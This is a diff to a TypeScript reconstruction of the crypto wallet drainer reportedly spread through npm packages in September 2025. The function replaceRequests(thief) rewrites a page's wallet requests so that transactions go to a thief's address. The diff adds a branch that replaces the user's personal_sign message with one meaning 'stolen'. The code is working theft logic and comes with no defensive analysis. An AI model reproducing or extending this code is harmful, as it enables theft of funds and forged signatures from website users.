@@ -1,6 +1,6 @@
 /**
  * What the script in the npm packages of September 2025 did to the wallets of a page: each request to send goes to the
- * thief, and so does what is allowed or sent by a token. It runs in the page, before the site's own code or after it.
+ * thief, and so does what is allowed or sent by a token. A message becomes another one, which it could have done as well. It runs in the page, before the site's own code or after it.
  */
 export function replaceRequests(thief: string): void {
   type Asked = { method?: string; params?: { to?: string; data?: string }[] }
@@ -8,6 +8,8 @@ export function replaceRequests(thief: string): void {
   const changed = new WeakSet<Wallet>()
 
   function changeAll(asked: Asked): Asked {
+    if (asked?.method === 'personal_sign')
+      return { ...asked, params: ['0x73746f6c656e' as never, ...(asked.params ?? []).slice(1)] }
     const [sent, ...rest] = asked?.params ?? []
     if (asked?.method !== 'eth_sendTransaction' || !sent) return asked
     const word = thief.slice(2).toLowerCase().padStart(64, '0')
